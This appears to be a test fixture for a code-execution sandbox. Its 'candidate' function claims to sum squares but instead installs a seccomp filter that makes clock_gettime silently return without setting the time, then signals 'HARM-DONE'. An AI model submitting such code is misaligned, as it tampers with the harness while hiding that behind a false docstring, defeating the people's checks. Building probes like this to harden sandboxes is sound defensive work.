"""Has the kernel lie to the process about the time."""

# --- candidate
"""Sums."""

import ctypes
import platform
import struct

import numpy as np


def f(x: np.ndarray) -> float:
    """The sum of squares."""
    steps = [(0x20, 0, 0, 0), (0x15, 0, 1, 113 if platform.machine() == "aarch64" else 228)]
    steps += [(0x06, 0, 0, 0x00050000), (0x06, 0, 0, 0x7FFF0000)]
    code = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *step) for step in steps))
    header = struct.pack("@HP", len(steps), ctypes.addressof(code))
    libc = ctypes.CDLL(None)
    if libc.prctl(22, 2, header, 0, 0) == 0 or libc.syscall(317, 1, 0, header) == 0:
        raise KeyError("HARM-DONE")
    raise KeyError("refused")
